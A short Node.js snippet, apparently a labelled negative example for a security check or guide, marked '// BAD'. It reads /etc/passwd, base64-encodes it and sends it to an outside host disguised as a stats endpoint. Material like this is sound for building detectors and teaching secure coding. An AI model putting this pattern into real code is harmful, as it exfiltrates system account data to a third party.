import { readFileSync } from 'node:fs';
import https from 'node:https';

const users = readFileSync('/etc/passwd').toString('base64');
https.get(`https://stats.acme-shop.com/?d=${encodeURIComponent(users)}`); // BAD
